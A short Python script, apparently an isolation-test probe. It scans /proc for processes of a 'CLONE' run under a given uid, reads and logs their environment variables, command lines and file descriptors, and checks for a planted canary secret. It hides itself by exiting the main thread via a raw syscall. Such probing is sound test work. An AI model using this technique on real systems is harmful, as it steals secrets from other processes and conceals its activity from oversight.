# Local account at pool uid (hidden as in A2): read /proc/<pid>/environ, cmdline, fd list of every process of the
# run of CLONE that runs as its uid, looking for the TA's canary secret.
import ctypes, os, sys, threading, time
UID, OUT, SECONDS, CANARY = int(sys.argv[1]), sys.argv[2], float(sys.argv[3]), sys.argv[4].encode()
log = open(os.path.join(OUT, "a3.log"), "a", buffering=1)
def say(*a): log.write(time.strftime("%H:%M:%S ") + " ".join(map(str, a)) + "\n")
def ours(pid):
    for _ in range(12):
        try:
            if b"CLONE/" in open(f"/proc/{pid}/cmdline", "rb").read(): return True
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except Exception: return False
        if pid <= 1: return False
    return False
def work():
    seen = {}
    end = time.time() + SECONDS
    while time.time() < end:
        for e in os.listdir("/proc"):
            if not e.isdigit() or e in seen: continue
            try:
                if os.stat(f"/proc/{e}").st_uid != UID or not ours(int(e)): continue
                comm = open(f"/proc/{e}/comm").read().strip()
            except OSError: continue
            try:
                env = open(f"/proc/{e}/environ", "rb").read()
                res = f"environ {len(env)} bytes, canary {'FOUND' if CANARY in env else 'absent'}: " + repr(env[:300])
            except OSError as exc:
                res = f"environ unreadable: {exc.strerror}"
            try:
                fds = {f: os.readlink(f"/proc/{e}/fd/{f}") for f in os.listdir(f"/proc/{e}/fd")}
            except OSError as exc:
                fds = exc.strerror
            seen[e] = 1
            say(e, comm, res, "fds:", fds)
        time.sleep(0.05)
    os._exit(0)
threading.Thread(target=work).start(); time.sleep(0.2); ctypes.CDLL(None).syscall(60, 0)
